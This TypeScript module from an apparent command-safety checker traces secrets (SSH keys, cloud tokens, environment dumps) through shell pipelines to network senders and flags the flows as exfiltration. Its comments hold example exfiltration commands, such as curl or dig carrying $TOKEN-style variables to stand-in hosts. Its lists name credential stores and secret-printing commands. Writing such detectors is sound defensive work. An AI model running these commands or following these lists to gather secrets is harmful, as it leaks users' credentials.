// Exfiltration: data flow from a segment that reads a secret (a credential file, the environment,
// a secret-looking variable, a credential-printing command) to a segment that sends over the
// network. The walk is the one that finds "sh runs what curl downloads", generalised: every earlier
// stage of a pipeline may feed a later one through any chain of filters (base64, gzip, tar, xxd,
// openssl…); a redirect `< file` or a here-string feeds the command itself; a `$(…)` feeds the
// command whose words hold it; `> /dev/tcp/…` and `>(nc …)` send what the command writes.

import type { CommandModel, PipelinePosition, SimpleCommand } from '../command-model.js';
import type { KnownHomes } from '../knowledge/places/known-homes.js';
import { normalizePath, secretPath } from '../knowledge/places/paths.js';
import { FETCHERS, isInterpreter, NO_CONTENT } from '../knowledge/programs/programs.js';
import { GIT_CONFIG, gitConfigShowsCredential } from '../options/git-options.js';
import { type ParsedArgs, parseWithSpec } from '../options/option-parser.js';
import { downloadRunRules } from '../rules/download-run.js';
import { fingerModelRules } from '../rules/escalation.js';
import { findWriteRules } from '../rules/find-writes.js';
import { scriptCodeRules } from '../rules/script-code.js';
import { supplyChainRules } from '../rules/supply-chain.js';
import { foundCredentials } from '../wrappers/find-exec.js';
import { literalCommandRules, type SegmentJudge } from '../wrappers/literal-commands.js';
import { authenticationFiles, authenticationValue } from './network-files.js';
import type { SecretTrail } from './secret-flow.js';

/** Programs that talk to the network: what they get in their arguments may leave the machine. */
export const NETWORK_PROGRAMS: ReadonlySet<string> = new Set([
  ...FETCHERS,
  'httpie',
  'xhs',
  'PUT',
  'scp',
  'sftp',
  'rsync',
  'dig',
  'nslookup',
  'host',
  'drill',
  'ping',
  'ping6',
  'mail',
  'mailx',
  'sendmail',
  'mutt',
  'msmtp',
  'ssmtp',
  'whois',
]);

/** Programs that print their arguments (an argument naming a file is not a read of the file). */
export const PRINTS_ARGS: ReadonlySet<string> = new Set(['echo', 'printf', 'print']);
export const ARCHIVERS: ReadonlySet<string> = new Set(['tar', 'zip', '7z', '7za', 'bsdtar', 'gtar', 'pax']);
/** A command's words (or input redirect) hold what these run: `$(…)`, backticks, `<(…)` (a file to read). */
const SUBSTITUTIONS = new Set(['$(…)', '`…`', '<(…)']);
/** Inline script code that talks to the network (python, node, perl, ruby, php). */
const NETWORK_CODE =
  /\b(?:urlopen|urllib|requests\.|http\.client|httpx|aiohttp|socket\.|fetch\(|https?\.request|https?\.get|net\.connect|XMLHttpRequest|axios|Net::HTTP|TCPSocket|IO::Socket|LWP|HTTP::Tiny|curl_exec|fsockopen|file_get_contents\(\s*['"]https?:)/;
const PROC_ENVIRON = /\/proc\/[^/\s'"]+\/environ(?![\w.-])/;
const DEV_SOCKET = /^\/dev\/(?:tcp|udp)\//;
const VARIABLE = /\$\{?#?([A-Za-z_][A-Za-z0-9_]*)/g;

/**
 * Whether a variable name looks like it holds a secret: …TOKEN…, …SECRET…, …PASSWORD… / …PASSWD…,
 * …PASSPHRASE…, …CREDENTIAL…, …APIKEY…, …_KEY / …_KEY_…, PASS, …WEBHOOK…, DATABASE_URL, …_DSN, AWS_*.
 */
export function isSecretVariable(name: string): boolean {
  const n = name.toUpperCase();
  return (
    /TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|CREDENTIAL|APIKEY|PRIVATE_?KEY|_KEY(?:_|$)|^KEY$|(?:^|_)PASS(?:_|$)|WEBHOOK|DATABASE_URL|_DSN$/.test(
      n,
    ) || n.startsWith('AWS_')
  );
}

function quote(s: string): string {
  return `'${s.length > 80 ? `${s.slice(0, 77)}…` : s}'`;
}

/** The first secret-looking variable a text expands, as `$NAME`, or null. */
function secretVariableIn(text: string): string | null {
  if (!text.includes('$')) return null;
  for (const m of text.matchAll(VARIABLE)) if (isSecretVariable(m[1] as string)) return `$${m[1]}`;
  return null;
}

/** Public halves and host lists are not secrets: `cat ~/.ssh/id_rsa.pub | ssh h 'cat >> …'` is ssh-copy-id. */
function isPublicPart(path: string): boolean {
  return /\.pub$|(?:^|\/)known_hosts(?:\.old)?$/.test(path);
}

/** The credential store a word names, for a data flow (public keys and known_hosts excluded). */
function credentialWord(word: string, homes: KnownHomes): string | null {
  const s = secretPath(word, homes);
  return s === null || isPublicPart(word) ? null : s;
}

const SECRET_DIR = /^~\/(?:\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.password-store|\.config\/gh|\.config\/gcloud)$/;

/** The "credential file" (or directory) description of a path word, or null. */
export function credentialFile(word: string, homes: KnownHomes): string | null {
  if (credentialWord(word, homes) === null) return null;
  const n = normalizePath(word.replace(/^(?:[^=]*=)?[@<]/, ''), homes);
  return `the credential ${n !== null && SECRET_DIR.test(n) ? 'directory' : 'file'} ${quote(word)}`;
}

/** Commands that print a credential (`gh auth token`, `gpg --export-secret-keys`…), described; or null. */
export function credentialCommand(seg: SimpleCommand): string | null {
  const a = seg.argv;
  const words = a.slice(1).filter((w) => !w.startsWith('-'));
  const has = (...xs: string[]): boolean => xs.every((x, i) => words[i] === x);
  const p = seg.program;
  const named = (n: number): string => `a credential (${[p, ...words.slice(0, n)].join(' ')})`;
  if (p === 'gh' && has('auth', 'token')) return named(2);
  if (p === 'gcloud' && (has('auth', 'print-access-token') || has('auth', 'print-identity-token'))) return named(2);
  if (p === 'az' && has('account', 'get-access-token')) return named(2);
  if (
    p === 'aws' &&
    (has('configure', 'export-credentials') ||
      has('configure', 'get') ||
      has('sts', 'get-session-token') ||
      has('ecr', 'get-login-password'))
  )
    return named(2);
  if (p === 'gpg' || p === 'gpg2') {
    const opt = a.find((w) => /^--export-secret-(?:sub)?keys$/.test(w));
    if (opt !== undefined) return `a credential (${p} ${opt})`;
  }
  if (p === 'security' && /^find-(?:generic|internet)-password$/.test(words[0] ?? '')) return named(1);
  if (p === 'git' && has('credential', 'fill')) return named(2);
  if (p === 'kubectl' && has('config', 'view') && a.includes('--raw'))
    return `a credential (kubectl config view --raw)`;
  if (p === 'vault' && (words[0] === 'read' || (words[0] === 'kv' && words[1] === 'get')))
    return named(words[0] === 'kv' ? 2 : 1);
  return secretPrinter(seg, words, a);
}

/**
 * Subcommands of cloud CLIs, password managers and tools that print a secret: `[program, ...the
 * first operands]`, with an option that must be present when one is named (`--with-decryption`).
 */
const SECRET_PRINTERS: readonly (readonly [program: string, words: readonly string[], option?: RegExp])[] = [
  ['aws', ['secretsmanager', 'get-secret-value']],
  ['aws', ['ssm', 'get-parameter'], /^--with-decryption$/],
  ['aws', ['ssm', 'get-parameters'], /^--with-decryption$/],
  ['aws', ['ssm', 'get-parameters-by-path'], /^--with-decryption$/],
  ['aws', ['sts', 'assume-role']],
  ['aws', ['iam', 'create-access-key']],
  ['aws', ['codeartifact', 'get-authorization-token']],
  ['gcloud', ['auth', 'application-default', 'print-access-token']],
  ['gcloud', ['auth', 'print-refresh-token']],
  ['gcloud', ['config', 'config-helper']],
  ['gcloud', ['secrets', 'versions', 'access']],
  ['az', ['keyvault', 'secret', 'show']],
  ['az', ['keyvault', 'secret', 'download']],
  ['az', ['storage', 'account', 'keys', 'list']],
  ['az', ['acr', 'login'], /^--expose-token$/],
  ['gh', ['auth', 'status'], /^(?:--show-token|-t)$/],
  ['glab', ['auth', 'status'], /^(?:--show-token|-t)$/],
  ['heroku', ['auth:token']],
  ['kubectl', ['get', 'secret']],
  ['kubectl', ['get', 'secrets']],
  ['kubectl', ['create', 'token']],
  ['op', ['read']],
  ['op', ['item', 'get'], /^--(?:reveal|fields)/],
  ['bw', ['get']],
  ['pass', ['show']],
  ['gopass', ['show']],
  ['secret-tool', ['lookup']],
  ['security', ['dump-keychain']],
  ['sops', [], /^(?:-d|--decrypt)$/],
  ['sops', ['decrypt']],
  ['terraform', ['output']],
  ['nmcli', [], /^(?:-s|--show-secrets)$/],
  ['wg', ['showconf']],
  ['docker', ['inspect']],
  ['docker', ['container', 'inspect']],
  ['npm', ['token', 'list']],
];

function secretPrinter(seg: SimpleCommand, words: readonly string[], a: readonly string[]): string | null {
  const p = seg.program;
  if (p.startsWith('docker-credential-') && words[0] === 'get') return `a credential (${p} get)`;
  if (p === 'npm' && words[0] === 'config' && words[1] === 'get' && /_auth|token|password/i.test(words[2] ?? ''))
    return `a credential (npm config get ${words[2]})`;
  if (p === 'git') {
    const at = a.indexOf('config');
    if (at > 0) {
      const parsed: ParsedArgs = { options: new Map(), positionals: [], positionalIndex: [] };
      parseWithSpec(GIT_CONFIG, a.slice(at + 1), 0, parsed, false);
      if (gitConfigShowsCredential(parsed)) return 'a credential (git config)';
    }
  }
  for (const [program, sub, option] of SECRET_PRINTERS) {
    if (program !== p || !sub.every((x, i) => words[i] === x)) continue;
    if (option !== undefined && !a.some((w) => option.test(w))) continue;
    return `a credential (${[p, ...sub].join(' ')})`;
  }
  return null;
}

/** Whether this command prints the whole environment (env, printenv, set, export -p, declare -p…). */
function environmentDump(seg: SimpleCommand): boolean {
  const p = seg.program;
  const rest = seg.argv.slice(1);
  const onlyOptions = rest.every((w) => w.startsWith('-'));
  if (p === 'env') return onlyOptions && !rest.some((w) => /^-[a-zA-Z]*[uSC]|^--(?:unset|split|chdir)/.test(w));
  if (p === 'printenv') return onlyOptions;
  if (p === 'set') return rest.length === 0;
  if (p === 'export') return onlyOptions && (rest.length === 0 || rest.some((w) => /^-[a-zA-Z]*p/.test(w)));
  if (p === 'declare' || p === 'typeset')
    return onlyOptions && (rest.length === 0 || rest.some((w) => /^-[a-zA-Z]*[px]/.test(w)));
  // jq's `env` / `$ENV`: the whole environment, or any variable of it
  if (p === 'jq' || p === 'gojq' || p === 'jaq') return rest.some((w) => /(?:^|[^\w$.])(?:env|\$ENV)\b/.test(w));
  // ps with BSD `e` (`ps auxeww`, `ps e`) or `-o …environ…`: every process's environment
  if (p === 'ps') return rest.some((w) => (!w.startsWith('-') && /^[a-zA-Z]*e[a-zA-Z]*$/.test(w)) || /environ/.test(w));
  return false;
}

/**
 * What a command reads on its standard input that is a secret: a credential file redirected in
 * (`< ~/.ssh/id_rsa`), a here-string or here-document expanding a secret variable.
 */
export function stdinSecrets(redirects: SimpleCommand['redirects'], homes: KnownHomes): string[] {
  const out: string[] = [];
  for (const r of redirects) {
    if (r.op === '<' || r.op === '<>') {
      const c = credentialFile(r.target, homes);
      if (c !== null) out.push(c);
      else if (PROC_ENVIRON.test(r.target)) out.push(`the environment of a process (${quote(r.target)})`);
    } else if (r.op === '<<<' || r.op === '<<' || r.op === '<<-') {
      const v = r.dynamic ? secretVariableIn(r.target) : null;
      if (v !== null) out.push(`the secret variable '${v}'`);
    }
  }
  return out;
}

/**
 * What secrets a command's output may carry: what it reads on stdin, a credential file it reads
 * (not echoed, not merely looked at), the environment, a secret variable it prints, a credential
 * it prints, an archive of a home or system directory.
 */
export function outputSecrets(seg: SimpleCommand, homes: KnownHomes, fromSubstitution = false): string[] {
  const out = stdinSecrets(seg.redirects, homes);
  if (seg.wrapper || seg.argv.length === 0) return out;
  const p = seg.program;
  if (environmentDump(seg)) out.push(`the environment printed by ${p}`);
  if (p === 'printenv') {
    const v = seg.argv.slice(1).find((w) => !w.startsWith('-') && isSecretVariable(w));
    if (v !== undefined) out.push(`the secret variable '$${v}'`);
  }
  const printer = fromSubstitution ? null : credentialCommand(seg);
  if (printer !== null) out.push(printer);
  const found = p === 'find' ? foundCredentials(seg.argv, homes, seg.dynamic) : null;
  if (found !== null) out.push(found);
  for (let i = 1; i < seg.argv.length; i++) {
    const w = seg.argv[i] as string;
    if (PROC_ENVIRON.test(w) && !PRINTS_ARGS.has(p)) out.push(`the environment of a process (${quote(w)})`);
    if (PRINTS_ARGS.has(p)) {
      const v = fromSubstitution || !seg.dynamic.includes(i) ? null : secretVariableIn(w);
      if (v !== null) out.push(`the secret variable '${v}'`);
    } else if (!NO_CONTENT.has(p)) {
      const c = credentialFile(p === 'dd' && w.startsWith('if=') ? w.slice(3) : w, homes);
      if (c !== null) out.push(c);
    }
    if (ARCHIVERS.has(p) && !w.startsWith('-')) {
      const n = normalizePath(w, homes);
      if (n === '~' || n === '/' || n === '/home' || n === '/etc')
        out.push(`an archive of ${quote(w)} (with the credentials in it)`);
    }
  }
  return out;
}

/** The programs {@link stdinSink} looks at (besides interpreters): a cheap first test for every segment. */
const SINK_CANDIDATES: ReadonlySet<string> = new Set([...NETWORK_PROGRAMS, 'aws', 'gsutil', 'gcloud', 'gh', 'rclone']);

/**
 * How a command sends what it reads on stdin over the network (its label in the reason), or null:
 * nc/ncat/netcat/telnet, socat to a socket, ssh (unless -n/-N), curl/wget reading a body or URLs
 * from stdin, httpie/xh (unless --ignore-stdin), openssl s_client, mail, POST/PUT, a network
 * program run by xargs on its input.
 */
export function stdinSink(seg: SimpleCommand): string | null {
  if (seg.wrapper || seg.unknown_program || seg.argv.length === 0) return null;
  const p = seg.program;
  if (!SINK_CANDIDATES.has(p) && !isInterpreter(p)) return null;
  const rest = seg.argv.slice(1);
  if (seg.unknown_tail && NETWORK_PROGRAMS.has(p)) return `${p} (run by xargs on its input)`;
  if (isInterpreter(p)) return rest.some((w) => NETWORK_CODE.test(w)) ? `${p} (with network code)` : null;
  const cloud = cloudUpload(p, rest);
  if (cloud !== null) return cloud;
  switch (p) {
    case 'nc':
    case 'ncat':
    case 'netcat':
      return shortFlags(rest, NC_ARG, Infinity).has('z') ? null : p;
    case 'telnet':
    case 'mail':
    case 'mailx':
    case 'sendmail':
    case 'mutt':
    case 'msmtp':
    case 'ssmtp':
    case 'POST':
    case 'PUT':
      return p;
    case 'socat':
      return rest.some((w) => /^(?:tcp|udp|sctp|openssl|ssl|socks|proxy)[46]?(?:-[a-z]+)?:/i.test(w)) ? p : null;
    case 'ssh':
      // ssh reads options before the host and right after it; the rest is the remote command
      return [...shortFlags(rest, SSH_ARG, 2)].some((c) => 'nNVG'.includes(c)) ? null : p;
    case 'openssl':
      return rest[0] === 's_client' ? 'openssl s_client' : null;
    case 'http':
    case 'https':
    case 'httpie':
    case 'xh':
    case 'xhs':
      return rest.some((w) => w === '--ignore-stdin' || /^-[a-zA-Z]*I$/.test(w)) ? null : p;
    case 'curl':
      return curlReadsStdin(rest) ? p : null;
    case 'wget':
      return wgetReadsStdin(rest) ? p : null;
    case 'scp':
    case 'rsync':
      return rest.some(isStdinPath) ? p : null;
    default:
      return null;
  }
}

/** Short options of ssh and nc that take a value (the rest of the cluster or the next word). */
const SSH_ARG = 'BbcDEeFIiJLlmOoPpQRSWw';
const NC_ARG = 'ceGgIiMmOoPpqsTVwXx';

/**
 * The boolean short option letters in `words`, skipping each option's value; option parsing stops
 * at the `stopAfter`-th operand (or `--`).
 */
function shortFlags(words: readonly string[], withValue: string, stopAfter: number): Set<string> {
  const out = new Set<string>();
  let operands = 0;
  for (let i = 0; i < words.length; i++) {
    const w = words[i] as string;
    if (w === '--') break;
    if (!w.startsWith('-') || w === '-') {
      if (++operands >= stopAfter) break;
      continue;
    }
    if (w.startsWith('--')) continue;
    for (let k = 1; k < w.length; k++) {
      const c = w[k] as string;
      if (withValue.includes(c)) {
        if (k === w.length - 1) i++;
        break;
      }
      out.add(c);
    }
  }
  return out;
}

/** A cloud CLI storing stdin remotely: `aws s3 cp - s3://…`, `gsutil cp - gs://…`, `gh gist create -`, `rclone rcat`. */
function cloudUpload(p: string, rest: string[]): string | null {
  const ops = rest.filter((w) => !w.startsWith('-') || w === '-');
  if (p === 'aws' && ops[0] === 's3' && (ops[1] === 'cp' || ops[1] === 'mv') && ops[2] === '-') return 'aws s3 cp';
  if ((p === 'gsutil' || p === 'gcloud') && ops.includes('cp') && ops.includes('-')) return `${p} cp`;
  if (p === 'gh' && ops[0] === 'gist' && ops[1] === 'create' && (ops.includes('-') || ops.length === 2))
    return 'gh gist create';
  if (p === 'rclone' && ops[0] === 'rcat') return 'rclone rcat';
  return null;
}

function isStdinPath(w: string): boolean {
  return w === '/dev/stdin' || w === '/dev/fd/0' || w === '/proc/self/fd/0';
}

const CURL_BODY = /^--(?:data|data-binary|data-urlencode|data-ascii|data-raw|json|form|upload-file|config)$/;
const CURL_SHORT_BODY = new Map([
  ['d', '--data'],
  ['F', '--form'],
  ['T', '--upload-file'],
  ['K', '--config'],
]);

/** Whether curl takes a body, form field, upload or config from stdin (`-d @-`, `-T -`, `-F f=@-`, `-K -`…). */
function curlReadsStdin(rest: string[]): boolean {
  const stdinValue = (opt: string, v: string): boolean => {
    if (opt === '--upload-file') return v === '-' || v === '.' || isStdinPath(v);
    if (opt === '--config') return v === '-' || isStdinPath(v);
    if (opt === '--data-raw') return false;
    return /(?:^|[=@<])-$/.test(v) || /(?:^|[=@<])(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/.test(v);
  };
  for (let i = 0; i < rest.length; i++) {
    const w = rest[i] as string;
    if (w.startsWith('--')) {
      const eq = w.indexOf('=');
      const name = eq < 0 ? w : w.slice(0, eq);
      if (!CURL_BODY.test(name)) continue;
      const v = eq < 0 ? (rest[++i] ?? '') : w.slice(eq + 1);
      if (stdinValue(name, v)) return true;
      continue;
    }
    if (!w.startsWith('-')) continue;
    for (let k = 1; k < w.length; k++) {
      const opt = CURL_SHORT_BODY.get(w[k] as string);
      if (opt === undefined) continue;
      const v = k < w.length - 1 ? w.slice(k + 1) : (rest[++i] ?? '');
      if (stdinValue(opt, v)) return true;
      break;
    }
  }
  return false;
}

/** Whether wget posts stdin or reads the URLs to fetch from it (`--post-file=/dev/stdin`, `-i -`). */
function wgetReadsStdin(rest: string[]): boolean {
  for (let i = 0; i < rest.length; i++) {
    const w = rest[i] as string;
    const m = /^--(post-file|body-file|input-file)(?:=(.*))?$/.exec(w);
    let v: string | undefined;
    let opt = '';
    if (m !== null) {
      opt = m[1] as string;
      v = m[2] ?? rest[++i];
    } else if (/^-[a-zA-Z]*i/.test(w)) {
      opt = 'input-file';
      const at = w.indexOf('i');
      v = at < w.length - 1 ? w.slice(at + 1) : rest[++i];
    }
    if (v === undefined) continue;
    if (isStdinPath(v) || (opt === 'input-file' && v === '-')) return true;
  }
  return false;
}

/** The redirects of segment i and of the wrappers it runs under (`timeout 5 nc x 1 < ~/.ssh/id_rsa`). */
export function redirectsOf(segs: readonly SimpleCommand[], i: number): SimpleCommand['redirects'] {
  const out = [...(segs[i] as SimpleCommand).redirects];
  for (let j = i; j > 0; j--) {
    const w = segs[j - 1] as SimpleCommand;
    const cur = segs[j] as SimpleCommand;
    if (!(w.wrapper && w.via.length < cur.via.length && isPrefix(w.via, cur.via))) break;
    out.push(...w.redirects);
  }
  return out;
}

/** The `/dev/tcp|udp/…` target the output of segment i (or of a wrapper it runs under) is redirected to, or null. */
function socketRedirect(segs: readonly SimpleCommand[], i: number): string | null {
  for (let j = i; j >= 0; j--) {
    const s = segs[j] as SimpleCommand;
    if (j < i) {
      const inner = segs[j + 1] as SimpleCommand;
      if (!(s.wrapper && s.via.length < inner.via.length && isPrefix(s.via, inner.via))) break;
    }
    for (const r of s.redirects) if (r.is_write && DEV_SOCKET.test(r.target)) return r.target;
  }
  return null;
}

function isPrefix(prefix: readonly string[], of: readonly string[]): boolean {
  return prefix.length <= of.length && prefix.every((v, i) => of[i] === v);
}

/** Indexes of the segments run by the `$(…)` / backticks in the words of segment i (or of its wrappers). */
function argumentSubstitutions(segs: readonly SimpleCommand[], i: number): number[] {
  let owner = i;
  while (owner > 0) {
    const w = segs[owner - 1] as SimpleCommand;
    const cur = segs[owner] as SimpleCommand;
    if (!(w.wrapper && w.via.length < cur.via.length && isPrefix(w.via, cur.via))) break;
    owner--;
  }
  const base = (segs[owner] as SimpleCommand).via;
  const out: number[] = [];
  for (let j = owner - 1; j >= 0; j--) {
    const s = segs[j] as SimpleCommand;
    if (s.via.length > base.length && isPrefix(base, s.via) && SUBSTITUTIONS.has(s.via[base.length] as string))
      out.push(j);
    else break;
  }
  return out.reverse();
}

/** The segment whose words hold the process substitution `>(…)` segment i runs in, or -1. */
function processSubstitutionOwner(segs: readonly SimpleCommand[], i: number): number {
  const via = (segs[i] as SimpleCommand).via;
  const k = via.lastIndexOf('>(…)');
  if (k < 0) return -1;
  const base = via.slice(0, k);
  for (let j = i + 1; j < segs.length; j++) {
    const s = segs[j] as SimpleCommand;
    if (s.via.length === base.length && isPrefix(base, s.via) && !s.wrapper) return j;
    if (!isPrefix(base, s.via)) return -1;
  }
  return -1;
}

/** A secret reaching a segment: what it is, and where it was read. */
export interface Flow {
  what: string;
  /** 0-based segment the secret comes from; undefined when it is the sink's own input */
  from?: number;
}

/** At most this many exfiltration reasons per command, and per sender (a flood of stages is not a flood of lines). */
const MAX_REASONS = 20;
const MAX_PER_SENDER = 3;

/**
 * The secrets in the output of each segment and of the earlier stages of its pipeline, computed
 * once per segment and per pipeline (a command of 1,000 stages costs linear time).
 */
class FlowIndex {
  readonly #segs: readonly SimpleCommand[];
  readonly #own = new Map<number, Flow[]>();
  #byPipeline: Map<number, { index: number; j: number }[]> | null = null;

  readonly #trail: SecretTrail | undefined;
  readonly #homes: KnownHomes;

  constructor(segs: readonly SimpleCommand[], trail: SecretTrail | undefined, homes: KnownHomes) {
    this.#segs = segs;
    this.#trail = trail;
    this.#homes = homes;
  }

  /** What segment j's own output carries: its secrets and, for echo/printf, those of the `$(…)` it prints. */
  own(j: number): Flow[] {
    let v = this.#own.get(j);
    if (v === undefined) {
      const s = this.#segs[j] as SimpleCommand;
      v = outputSecrets(s, this.#homes).map((what) => ({ what, from: j }));
      if (PRINTS_ARGS.has(s.program)) v.push(...fromSubstitutions(this.#segs, j, this.#homes));
      if (this.#trail !== undefined) v.push(...this.#trail.output(j));
      this.#own.set(j, v);
    }
    return v;
  }

  /** What the earlier stages of segment i's pipeline carry into it (through any chain of filters). */
  upstream(i: number): Flow[] {
    const pos = (this.#segs[i] as SimpleCommand).pipeline;
    if (pos === null) return [];
    if (this.#byPipeline === null) {
      // every source is listed under each pipeline it is nested in, with its stage there
      const map = new Map<number, { index: number; j: number }[]>();
      this.#segs.forEach((s, j) => {
        if (s.pipeline === null || this.own(j).length === 0) return;
        for (let p: PipelinePosition | undefined = s.pipeline; p !== undefined; p = p.outer) {
          const list = map.get(p.id);
          if (list === undefined) map.set(p.id, [{ index: p.index, j }]);
          else list.push({ index: p.index, j });
        }
      });
      this.#byPipeline = map;
    }
    const from = new Set<number>();
    for (let p: PipelinePosition | undefined = pos; p !== undefined; p = p.outer) {
      for (const e of this.#byPipeline.get(p.id) ?? []) if (e.index < p.index) from.add(e.j);
    }
    return [...from].sort((x, y) => x - y).flatMap((j) => this.own(j));
  }

  /** What segment i writes: its own secrets (with its wrappers' redirects) and what flows into it. */
  output(i: number): Flow[] {
    const seg = this.#segs[i] as SimpleCommand;
    const wrapperRedirects = redirectsOf(this.#segs, i).slice(seg.redirects.length);
    return [
      ...this.own(i),
      ...stdinSecrets(wrapperRedirects, this.#homes).map((what) => ({ what, from: i })),
      ...this.upstream(i),
    ];
  }
}

/**
 * A secret-looking variable a network program's words expand (`curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`,
 * `curl -d "key=$OPENAI_API_KEY" …`, `wget "https://x/$GITHUB_TOKEN"`, `dig $TOKEN.evil`): the URL,
 * body or name it is sent in. Not where it only authenticates: a credential header or a user,
 * password or token option (`-H "Authorization: Bearer $TOKEN"`, `-sH …`, `-u me:$PASS`), a file
 * an option authenticates with (`scp -i $KEY`). The first one per segment.
 */
function argumentVariables(seg: SimpleCommand): Flow[] {
  let auth: Set<number> | undefined;
  for (const k of seg.dynamic) {
    const w = seg.argv[k];
    const v = w === undefined ? null : secretVariableIn(w);
    if (v === null) continue;
    auth ??= authenticationFiles(seg);
    if (auth.has(k) || authenticationValue(seg, k)) continue;
    // a header option clustered with others (`curl -sH "Authorization: …"`) is read as `-H` is
    const prev = seg.argv[k - 1] ?? '';
    if (/^-[a-zA-Z]+H$/.test(prev)) {
      const argv = [...seg.argv.slice(0, k - 1), '-H', ...seg.argv.slice(k)];
      if (authenticationValue({ ...seg, argv }, k)) continue;
    }
    return [{ what: `the secret variable '${v}' in its arguments` }];
  }
  return [];
}

/** Credential files and environment dumps read by the `$(…)` in the words of segment i. */
export function fromSubstitutions(segs: readonly SimpleCommand[], i: number, homes: KnownHomes): Flow[] {
  const out: Flow[] = [];
  for (const j of argumentSubstitutions(segs, i)) {
    for (const what of outputSecrets(segs[j] as SimpleCommand, homes, true)) out.push({ what, from: j });
  }
  return out;
}

/**
 * Adds a dangerous finding for every secret that reaches a network sender (and, beside those,
 * for a downloaded file run later — download-run.ts —, for find's own writes and deletes —
 * find-writes.ts —, for an alias used later or a literal script run later — literal-commands.ts —
 * and for a command that stops or steers finger itself — escalation.ts):
 * "segment 3: nc sends the credential file '~/.ssh/id_rsa' (segment 1) over the network (exfiltration)";
 * `trail` adds the secrets that travel through variables, written files and loops (secret-flow.ts).
 */
export function exfiltrationRules(
  model: CommandModel,
  add: (reason: string) => void,
  judge: SegmentJudge,
  homes: KnownHomes,
  trail?: SecretTrail,
): void {
  const segs = model.segments;
  const flows = new FlowIndex(segs, trail, homes);
  let budget = MAX_REASONS;
  const report = (i: number, sender: string, found: Flow[]): void => {
    for (const { what, from } of found.slice(0, MAX_PER_SENDER)) {
      if (budget-- <= 0) return;
      const src = from === undefined || from === i ? '' : ` (segment ${from + 1})`;
      add(`segment ${i + 1}: ${sender} sends ${what}${src} over the network (exfiltration)`);
    }
  };
  segs.forEach((seg, i) => {
    if (budget <= 0 || seg.wrapper || seg.argv.length === 0) return;
    const sink = stdinSink(seg);
    if (sink !== null) {
      report(i, sink, [
        ...stdinSecrets(redirectsOf(segs, i), homes).map((what) => ({ what })),
        ...(trail?.stdin(i) ?? []),
        ...flows.upstream(i),
      ]);
      const owner = processSubstitutionOwner(segs, i);
      if (owner >= 0) report(i, sink, flows.output(owner));
    }
    const sock = socketRedirect(segs, i);
    if (sock !== null) report(i, `the redirect to ${quote(sock)}`, flows.output(i));
    if (NETWORK_PROGRAMS.has(seg.program))
      report(i, seg.program, [
        ...fromSubstitutions(segs, i, homes),
        ...argumentVariables(seg),
        ...(trail?.args(i) ?? []),
      ]);
    else if (trail !== undefined && trail.args(i).length > 0) report(i, seg.program, [...trail.args(i)]);
  });
  downloadRunRules(model, add);
  scriptCodeRules(model, add, judge, homes);
  supplyChainRules(model, add);
  findWriteRules(model, add, homes);
  literalCommandRules(model, add, judge);
  fingerModelRules(model, add, homes);
}
